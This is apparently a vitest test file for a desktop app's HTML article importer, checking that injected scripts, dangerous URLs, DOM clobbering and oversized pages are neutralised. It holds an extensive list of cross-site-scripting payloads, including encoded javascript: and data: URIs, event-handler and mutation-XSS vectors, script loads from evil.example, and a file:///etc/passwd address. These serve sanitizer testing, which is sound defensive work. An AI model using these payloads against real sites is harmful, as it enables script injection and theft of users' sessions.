import { describe, expect, it } from 'vitest'
import { articleText } from '#shared/text/articleText.ts'
import { readFile } from '../../../../electron/importers/index.ts'
import { expectSoundPage } from './expectSoundPage.ts'

const sentence =
  'The ferry left at nine, with nobody on board but the captain and a crate of pears.'
const paragraphs = `<p>${sentence}</p>`.repeat(4)
/** Set by every payload, should one run. */
const run = 'globalThis.hasRun=1'

function read(html: string | Buffer, url: string | undefined = 'https://page.example/a/b.html') {
  const bytes = typeof html === 'string' ? Buffer.from(html) : html
  const [article] = readFile(
    { name: 'a.html', bytes, ...(url && { url }) },
    { repairsOff: [] },
    'html',
  ).articles
  if (!article) throw new Error('There is no article.')
  expectSoundPage(article)
  return article
}

/** Reads a vector in the middle of an article; no address and no text may hold what it would run. */
function expectHarmless(vector: string): void {
  const article = read(
    `<html><body><article>${paragraphs}${vector}<p>${sentence}</p></article></body></html>`,
  )
  const { blocks, ...facts } = article
  expect(articleText(blocks)).toContain(sentence)
  expect(articleText(blocks)).not.toContain('hasRun')
  expect(JSON.stringify([blocks, facts])).not.toMatch(
    /(?:javascript|vbscript|livescript|data|blob|file):/i,
  )
  expect('hasRun' in globalThis).toBe(false)
}

/** Ways in which browsers have been brought to run what an address says. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `  javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&#x0A;script:${run}`,
  `java&#13;script&colon;${run}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}`,
  `&#0000106avascript:${run}`,
  `javascript&Tab;:${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${run}>*/`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `jar:javascript:${run}!/`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `data:;base64,PHNjcmlwdD4=`,
  `blob:https://page.example/${run}`,
  `file:///etc/passwd?${run}`,
  `\\\\?\\javascript:${run}`,
]

const carriers: Record<string, (address: string) => string> = {
  'a link': (address) => `<a href="${address}">x</a>`,
  'a link in a drawing': (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  'a link in a formula': (address) => `<math href="${address}"><mi href='${address}'>x</mi></math>`,
  'an image': (address) => `<img src="${address}" alt="x" lowsrc="${address}" dynsrc='${address}'>`,
  'a lazy image': (address) => `<img data-src="${address}" data-original="${address}" alt="x">`,
  'a set of images': (address) =>
    `<img srcset="${address} 1600w" alt="x"><picture><source srcset="${address} 1600w"><img alt="x"></picture>`,
  'an image without scripts': (address) =>
    `<img alt="x"><noscript><img src="${address}"></noscript>`,
  'a frame': (address) =>
    `<iframe src="${address}" title="x"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  'an object': (address) =>
    `<object data="${address}" title="x"></object><embed src="${address}" title="x">`,
  'a film': (address) =>
    `<video src="${address}" poster="${address}"></video><audio><source src="${address}"></audio>`,
  'a post': (address) =>
    `<blockquote class="twitter-tweet" cite="${address}">x <a href="${address}">y</a></blockquote>`,
  'a form': (address) =>
    `<form action="${address}"><button formaction="${address}">x</button><input type="image" src="${address}"></form>`,
  'a map': (address) => `<map><area href="${address}"></map>`,
  'a style': (address) =>
    `<div style="background:url('${address}')" background="${address}">x</div>`,
  'the base': (address) => `<base href="${address}"><a href="x">x</a>`,
  'a footnote': (address) => `<a href="${address}#n">1</a><p id="n">x</p>`,
  AMP: (address) =>
    `<amp-img src="${address}" alt="x"></amp-img><amp-iframe src="${address}"></amp-iframe>`,
}

describe.each(Object.entries(carriers))('an address that runs something, in %s', (_, carrier) => {
  it.each(addresses)('%j goes nowhere', (address) => {
    expectHarmless(carrier(address))
  })
})

describe('markup that runs something', () => {
  const handlers = [
    'onerror',
    'onload',
    'ONCLICK',
    'onmouseover',
    'ontoggle',
    'onstart',
    'onfocus',
    'onbegin',
    'onanimationend',
  ]
  const vectors = [
    `<script>${run}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<script/x src="//evil.example">${run}</script>`,
    `<scr\0ipt>${run}</scr\0ipt><script\0>${run}</script>`,
    `<<script>${run};//<</script>`,
    `<script src=//evil.example/x?<b>`,
    `<script><!-- <script> --></script><style>@import 'javascript:${run}'; x{width:expression(${run})}</style>`,
    `<svg><script>${run}</script></svg><svg/onload=${run}><svg><animate onbegin=${run} attributeName=x></svg>`,
    `<svg><style><img src=x onerror=${run}></style></svg>`,
    `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
    `<svg><title><![CDATA[</title><script>${run}</script>]]></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></mglyph></table></mtext></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math></form>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><script>${run}</script></template><template><template></template><img onerror=${run}></template>`,
    `<title><img src=x onerror=${run}></title>`,
    `<iframe><script>${run}</script></iframe><noembed><img onerror=${run}></noembed><noframes><img onerror=${run}></noframes>`,
    `<!--><script>${run}</script>--><!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    `<?xml-stylesheet href="javascript:${run}"?><!DOCTYPE x [<!ENTITY y "${run}">]>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}"><link rel=stylesheet href="javascript:${run}">`,
    `<body onload=${run} onpageshow=${run}><html onclick=${run}>`,
    `<marquee onstart=${run}>x</marquee><details open ontoggle=${run}><summary>x</summary></details>`,
    `<isindex type=image src=1 onerror=${run}><keygen autofocus onfocus=${run}><bgsound src="javascript:${run}">`,
    `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
    `<a href="x" style="behavior:url(${run})" autofocus onfocus="${run}">x</a>`,
    `<img src=x:x onerror\n=\n${run}><img/src/onerror=${run}><img src=\`x\`onerror=${run}>`,
    `<img """><script>${run}</script>">`,
    `<x onclick=${run} contenteditable>x</x><xss id=x tabindex=1 onactivate=${run}></xss>`,
    `<button popovertarget=x onclick=${run}>x</button><dialog id=x onbeforetoggle=${run}>x</dialog>`,
    `<div is="x-y" onclick=${run}>x</div><slot name=x onslotchange=${run}>x</slot>`,
    ...handlers.flatMap((handler) =>
      [
        'img src=x',
        'body',
        'video',
        'details open',
        'svg',
        'math',
        'table',
        'a href=#',
        'input autofocus',
      ].flatMap((tag) =>
        ['"', "'", ''].map(
          (quote) => `<${tag} ${handler}=${quote}${run}${quote}>x</${tag.split(' ')[0]}>`,
        ),
      ),
    ),
  ]

  it.each(vectors)('%j is not run and not shown', (vector) => {
    expectHarmless(vector)
  })

  it.each([
    ['<xmp>', '</xmp>'],
    ['<p>&lt;', '&gt;</p>'],
    ['<pre><code>&lt;', '&gt;</code></pre>'],
    ['<p>+ADw-script+AD4-', '</p>'],
    ['<p>%3Cscript%3E', '</p>'],
    ["<p>{{constructor.constructor('1')()}} ", '</p>'],
  ])('that stands in a text as text stays text: %s', (opens, closes) => {
    const article = read(
      `<article>${paragraphs}${opens}img src=x onerror=${run}${closes}</article>`,
    )
    expect(articleText(article.blocks)).toContain(`img src=x onerror=${run}`)
    expect('hasRun' in globalThis).toBe(false)
  })

  it.each([
    `<script>/* </script//>${run}</script>`,
    `<sc<script>ript>${run}</script>`,
    `<![CDATA[<b>${run}</b>]]>`,
  ])('that ends before what it would run leaves text, as in browsers: %s', (vector) => {
    expect(articleText(read(`<article>${paragraphs}<p>${vector}</p></article>`).blocks)).toContain(
      run,
    )
    expect('hasRun' in globalThis).toBe(false)
  })

  it('in overlong UTF-8 stays what the bytes are: broken', () => {
    const overlong = Buffer.concat([
      Buffer.from(paragraphs),
      Buffer.of(0xc0, 0xbc),
      Buffer.from('script'),
      Buffer.of(0xc0, 0xbe),
      Buffer.from(paragraphs),
    ])
    expect(articleText(read(overlong).blocks)).not.toContain('<script')
  })
})

describe('names that stand for parts of the DOM', () => {
  const clobbering =
    'body head documentElement children childNodes firstChild parentNode attributes nodeName nodeType textContent className id getAttribute querySelector remove __proto__ constructor toString hasOwnProperty length'.split(
      ' ',
    )

  it.each(clobbering)('%s in an id, a name or a class changes nothing', (name) => {
    expectHarmless(
      `<form id="${name}" name="${name}"><input name="${name}" id="${name}"><img name="${name}"></form><p id="${name}" class="${name}"><a name="${name}"></a><a href="#${name}">1</a> x</p><p ${name}="x">y</p>`,
    )
  })
})

describe('pages made to be slow or large', { timeout: 120_000 }, () => {
  const around = (inner: string) =>
    `<html><body><article>${paragraphs}${inner}<p>The end of it.</p></article></body></html>`

  it.each([
    ['a line of 10 MB', `<p>${'word '.repeat(2_000_000)}</p>`],
    ['a word of 10 MB', `<p>${'x'.repeat(10_000_000)}</p>`],
    ['100,000 nested blocks', '<div>'.repeat(100_000)],
    ['100,000 nested inline elements', '<b><span>'.repeat(50_000)],
    ['100,000 nested lists and quotes', '<blockquote><ul><li>'.repeat(33_000)],
    ['nested tables', '<table><tr><td>'.repeat(33_000)],
    ['a million attributes', `<p ${'a=1 '.repeat(1_000_000)}>x</p>`],
    [
      'a million attributes of as many names',
      `<p ${Array.from({ length: 1_000_000 }, (_, at) => `a${at}`).join(' ')}>x</p>`,
    ],
    ['an attribute of 10 MB', `<p title="${'x'.repeat(10_000_000)}">x</p>`],
    ['a tag without an end', `<p ${'a '.repeat(1_000_000)}`.concat('>')],
    ['comments in comments', '<!--'.repeat(500_000).concat('-->')],
    ['end tags', '</div></p></b>'.repeat(300_000)],
    ['quotation marks', '<a b="'.repeat(200_000).concat('">')],
    ['formatting that is never closed', '<p><b><i><u><a href=x>'.repeat(20_000)],
    ['misnested formatting', '<b><p></b>'.repeat(20_000)],
    ['line breaks', 'x<br>'.repeat(50_000)],
    ['links to one note', `${'<a href="#n">1</a> '.repeat(20_000)}<p id="n">note</p>`],
    ['images', '<img src="a.jpg" srcset="b.jpg 1w">'.repeat(30_000)],
    ['a table of many columns', `<table><tr>${'<td>x'.repeat(50_000)}</table>`],
    [
      'a table of large spans',
      `<table>${'<tr><td colspan=1000 rowspan=65000>x<td>y'.repeat(3_000)}</table>`,
    ],
    ['drawings in drawings', '<svg>'.repeat(100_000).concat('</svg>')],
    ['templates in templates', '<template>'.repeat(100_000).concat('</template>')],
    ['nested formulas', '<span class="katex">'.repeat(300).concat('<i></i>'.repeat(20_000))],
    ['white space', `x${' \n\t'.repeat(1_000_000)}y`],
    ['zero-width spaces', `x${'\u200b'.repeat(1_000_000)}y`],
  ])('%s: the article around is read', (_, inner) => {
    const { blocks } = read(around(inner))
    expect(articleText(blocks)).toContain(sentence)
  })

  it.each([
    ['elements', '<i></i>'.repeat(450_000)],
    ['signs that begin no tag', '<'.repeat(450_000)],
    ['character references', '&amp;'.repeat(1_100_000)],
  ])('too many %s are refused in a sentence', (_, inner) => {
    expect(() => read(around(inner))).toThrow(expect.objectContaining({ code: 'too-large' }))
  })

  it('more than 50 MB are refused in a sentence', () => {
    expect(() => read(Buffer.alloc(50 * 1024 * 1024 + 1, 'x'))).toThrow('larger than 50 MB')
  })
})
